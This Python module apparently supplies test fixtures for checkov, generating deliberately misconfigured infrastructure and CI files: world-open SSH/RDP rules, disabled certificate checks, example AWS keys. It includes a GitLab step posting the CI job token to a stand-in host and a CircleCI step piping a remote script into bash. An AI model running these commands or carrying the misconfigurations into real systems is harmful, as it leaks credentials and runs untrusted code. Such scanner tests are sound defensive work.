"""A library of misconfigured files for checkov's Azure, Ansible, Serverless, CI-pipeline and
Terraform plan frameworks: each case a framework, the names a user gives such a file, and
texts with the check checkov fails on them and the line it reports, after `pad` lines of
padding that move it down (comments, or blank lines in JSON). New cases are added here."""

from __future__ import annotations

import json
import textwrap
from collections.abc import Callable
from dataclasses import dataclass

from hypothesis import strategies as st


@dataclass(frozen=True)
class Misconfig:
    """A text with `pad` lines before its body, the check it fails and the line reported."""

    rule: str
    text: Callable[[int], str]
    line: int  # with no padding; each padding line moves it one down


@dataclass(frozen=True)
class Case:
    kind: str
    names: tuple[str, ...]  # a folder may be put before a name without a `/`
    misconfigs: tuple[Misconfig, ...]


def _comments(pad: int, mark: str = "#") -> str:
    return "".join(f"{mark} note {n}\n" for n in range(pad))


def arm_template(port: int) -> dict[str, object]:
    """An ARM template of a network security group letting the world in on `port`."""
    rule = {"name": "open", "properties": {
        "priority": 100, "direction": "Inbound", "access": "Allow", "protocol": "Tcp",
        "sourcePortRange": "*", "destinationPortRange": str(port),
        "sourceAddressPrefix": "*", "destinationAddressPrefix": "*"}}
    return {"$schema": "https://schema.management.azure.com/schemas/2019-04-01/"
                       "deploymentTemplate.json#",
            "contentVersion": "1.0.0.0",
            "resources": [{"type": "Microsoft.Network/networkSecurityGroups",
                           "apiVersion": "2021-02-01", "name": "nsg", "location": "westeurope",
                           "properties": {"securityRules": [rule]}}]}


def _arm(port: int) -> Callable[[int], str]:
    return lambda pad: "\n" * pad + json.dumps(arm_template(port), indent=2) + "\n"


def terraform_plan(port: int) -> dict[str, object]:
    """`terraform show -json` of a plan creating a security group open to the world on
    `port` (checkov's terraform_plan framework reads it)."""
    ingress = [{"from_port": port, "to_port": port, "protocol": "tcp",
                "cidr_blocks": ["0.0.0.0/0"], "description": "open", "ipv6_cidr_blocks": [],
                "prefix_list_ids": [], "security_groups": [], "self": False}]
    values = {"name": "sg", "description": "sg", "ingress": ingress}
    named = {"address": "aws_security_group.sg", "mode": "managed",
             "type": "aws_security_group", "name": "sg",
             "provider_name": "registry.terraform.io/hashicorp/aws"}
    return {"format_version": "1.2", "terraform_version": "1.9.0",
            "planned_values": {"root_module": {"resources": [{**named, "values": values}]}},
            "resource_changes": [{**named, "change": {"actions": ["create"], "before": None,
                                                      "after": values}}],
            "configuration": {"root_module": {}}}


def _plan(port: int) -> Callable[[int], str]:
    return lambda pad: "\n" * pad + json.dumps(terraform_plan(port), indent=2) + "\n"


BICEP = """resource nsg 'Microsoft.Network/networkSecurityGroups@2021-02-01' = {{
  name: 'nsg'
  location: 'westeurope'
  properties: {{
    securityRules: [
      {{
        name: 'open'
        properties: {{
          priority: 100
          direction: 'Inbound'
          access: 'Allow'
          protocol: 'Tcp'
          sourcePortRange: '*'
          destinationPortRange: '{port}'
          sourceAddressPrefix: '*'
          destinationAddressPrefix: '*'
        }}
      }}
    ]
  }}
}}
"""
PLAY = """- name: web
  hosts: all
  become: true
  tasks:
    - name: ping
      ansible.builtin.ping:
{task}"""
GET_URL = """    - name: fetch
      ansible.builtin.get_url:
        url: https://example.com/x
        dest: /tmp/x
        validate_certs: false
"""
URI = """    - name: call
      ansible.builtin.uri:
        url: https://example.com/api
        validate_certs: no
"""
SERVERLESS = """service: svc
provider:
  name: aws
  runtime: python3.12
  environment:
    AWS_ACCESS_KEY_ID: AKIAIOSFODNN7EXAMPLE
    AWS_SECRET_ACCESS_KEY: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
functions:
  hello:
    handler: handler.hello
"""
AZURE = """trigger:
- main
jobs:
- job: build
  container: ubuntu:latest
  steps:
  - script: echo hi
"""
GITLAB = """stages: [deploy]
deploy:
  stage: deploy
  image: alpine:3.20
  script:
    - curl -d "$CI_JOB_TOKEN" https://collector.example
"""
BITBUCKET = """image: python:latest
pipelines:
  default:
    - step:
        script:
          - echo hi
"""
CIRCLECI = """version: 2.1
jobs:
  build:
    docker:
      - image: cimg/base:stable
    steps:
      - run: curl https://get.example/install.sh | bash
workflows:
  main:
    jobs:
      - build
"""


def _yaml(text: str) -> Callable[[int], str]:
    return lambda pad: _comments(pad) + text


CASES = (
    Case("terraform_plan", ("tfplan.json", "plan.json", ".plan.json"),
         (Misconfig("CKV_AWS_24", _plan(22), 12), Misconfig("CKV_AWS_25", _plan(3389), 12))),
    Case("arm", ("azuredeploy.json", "template.json", ".nsg.json"),
         (Misconfig("CKV_AZURE_10", _arm(22), 5), Misconfig("CKV_AZURE_9", _arm(3389), 5))),
    Case("bicep", ("main.bicep", ".net.bicep"),
         (Misconfig("CKV_AZURE_10", lambda pad: _comments(pad, "//") + BICEP.format(port=22), 1),
          Misconfig("CKV_AZURE_9", lambda pad: _comments(pad, "//") + BICEP.format(port=3389),
                    1))),
    Case("ansible", ("playbook.yml", "site.yaml", ".deploy.yml"),
         (Misconfig("CKV_ANSIBLE_2", _yaml(PLAY.format(task=GET_URL)), 7),
          Misconfig("CKV_ANSIBLE_1", _yaml(PLAY.format(task=URI)), 7))),
    # a list of tasks outside a role's tasks/ (an `include_tasks` file): checkov reads it too
    Case("ansible", ("tasks/setup.yml", "roles/web/tasks/sub/x.yml", "ops/tasks.yaml"),
         (Misconfig("CKV_ANSIBLE_2", _yaml(textwrap.dedent(GET_URL)), 1),
          Misconfig("CKV_ANSIBLE_1", _yaml(textwrap.dedent(URI)), 1))),
    Case("serverless", ("serverless.yml", "serverless.yaml"),
         (Misconfig("CKV_AWS_41", _yaml(SERVERLESS), 9),)),
    Case("azure_pipelines", ("azure-pipelines.yml", ".azure-pipelines.yaml",
                             "ci-azure-pipelines.yml"),
         (Misconfig("CKV_AZUREPIPELINES_1", _yaml(AZURE), 4),)),
    Case("gitlab_ci", (".gitlab-ci.yml", "deploy.gitlab-ci.yml"),
         (Misconfig("CKV_GITLABCI_1", _yaml(GITLAB), 6),)),
    Case("bitbucket_pipelines", ("bitbucket-pipelines.yml", ".bitbucket-pipelines.yaml"),
         (Misconfig("CKV_BITBUCKETPIPELINES_1", _yaml(BITBUCKET), 1),)),
    Case("circleci_pipelines", (".circleci/config.yml", ".circleci/config.yaml",
                                ".circleci/continue_config.yml", "circleci/config.yml"),
         (Misconfig("CKV_CIRCLECIPIPELINES_2", _yaml(CIRCLECI), 5),)),
)
FOLDERS = ("", "infra/", "deploy/azure/")


@dataclass(frozen=True)
class Drawn:
    """One misconfigured file: where it is, what it holds, what checkov says on which line."""

    kind: str
    path: str
    text: str
    rule: str
    line: int


@st.composite
def misconfigured(draw: st.DrawFn, case: Case | None = None) -> Drawn:
    """A drawn name, folder, misconfiguration and padding of `case` (else of a drawn one)."""
    case = case or draw(st.sampled_from(CASES))
    name = draw(st.sampled_from(case.names))
    folder = draw(st.sampled_from(FOLDERS))
    wrong = draw(st.sampled_from(case.misconfigs))
    pad = draw(st.integers(0, 3))
    return Drawn(case.kind, folder + name, wrong.text(pad), wrong.rule, wrong.line + pad)
